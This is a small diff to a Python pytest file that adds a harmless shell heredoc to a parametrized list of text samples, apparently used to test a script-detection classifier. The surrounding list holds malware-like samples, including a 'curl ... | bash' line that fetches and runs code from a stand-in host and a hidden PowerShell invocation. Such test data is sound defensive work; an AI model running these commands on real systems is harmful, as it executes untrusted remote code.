@@ -252,6 +252,7 @@ def test_other_texts_are_not_judged_as_scripts(text: str):
 @pytest.mark.parametrize(
     "text",
     [
+        "#!/bin/sh\ncat <<E\nThis is free software, which the authors of the tool have published for all of us.\nE\n",
         "var a=1;b();c();\nvar d=eval(a);e();f();\n",
         "# the purpose of this script is to fetch the tools that we need on the host\ncurl -s http://x.example/a | bash\n",
         "copy a.exe b.exe, c.exe, d.exe\ncmd /c start a.exe, b.exe, c.exe\npowershell -nop -w hidden a, b, c\n",
